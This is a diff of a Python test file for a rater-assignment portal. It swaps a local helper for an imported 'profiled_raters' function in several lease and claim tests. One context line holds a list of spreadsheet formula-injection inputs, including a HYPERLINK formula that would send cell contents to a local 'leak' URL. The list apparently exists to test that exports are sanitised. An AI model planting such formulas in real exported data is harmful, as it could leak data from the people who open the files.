@@ -24,6 +24,7 @@ from portal_helpers import (
     fill_steps,
     invite_tokens,
     pairwise_form,
+    profiled_raters,
     questions_frame,
     seed_track,
     signed_in_rater,
@@ -40,8 +41,8 @@ from stableval.portal.assignment import claim_next
 from stableval.portal.db import Database
 from stableval.portal.export import export, to_bytes
 from stableval.portal.flow import MAX_TEXT, empty_draft, save_draft, submit
-from stableval.portal.manage import create_invites, create_track, import_questions, set_retired
-from stableval.portal.models import Assignment, Judgment, Question, Rater, Submission, utcnow
+from stableval.portal.manage import create_track, import_questions, set_retired
+from stableval.portal.models import Assignment, Judgment, Question, Submission, utcnow
 
 runner = CliRunner()
 HOSTILE = ['=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]
@@ -91,20 +92,12 @@ def _answer(db: Database, assignment_id: int) -> str:
     return token
 
 
-def _raters(db: Database, n: int) -> list[int]:
-    ids = [invite.rater_id for invite in create_invites(db, [f"r{i}" for i in range(n)])]
-    with db.writing() as session:
-        for rater in session.scalars(select(Rater).where(Rater.id.in_(ids))):
-            rater.specialty, rater.profile_at = "cardiology", utcnow()
-    return ids
-
-
 def test_f5_late_submit_after_handover_is_refused_and_the_holder_keeps_the_slot(db_url: str,
                                                                                 tmp_path: Path) -> None:
     db = Database(db_url)
     db.upgrade()
     seed_track(db, tmp_path, frame=questions_frame(1), k=1, lease_hours=1)
-    first, second = _raters(db, 2)
+    first, second = profiled_raters(db, 2)
     start = utcnow()
     held = claim_next(db, first, "main", now=start).assignment_id
     assert held is not None
@@ -124,7 +117,7 @@ def test_f5_late_submit_with_the_slot_still_free_is_kept(db_url: str, tmp_path: 
     db = Database(db_url)
     db.upgrade()
     seed_track(db, tmp_path, frame=questions_frame(1), k=1, lease_hours=1)
-    (first,) = _raters(db, 1)
+    (first,) = profiled_raters(db, 1)
     start = utcnow()
     held = claim_next(db, first, "main", now=start).assignment_id
     assert held is not None
@@ -213,7 +206,7 @@ def test_f14_parallel_claims_of_one_rater_give_one_lease(db_url: str, tmp_path: 
     db = Database(db_url)
     db.upgrade()
     seed_track(db, tmp_path, frame=questions_frame(6), k=3)
-    (rater,) = _raters(db, 1)
+    (rater,) = profiled_raters(db, 1)
     with ThreadPoolExecutor(max_workers=8) as pool:
         claims = list(pool.map(lambda _: claim_next(db, rater, "main").assignment_id, range(12)))
     assert None not in claims and len(set(claims)) == 1
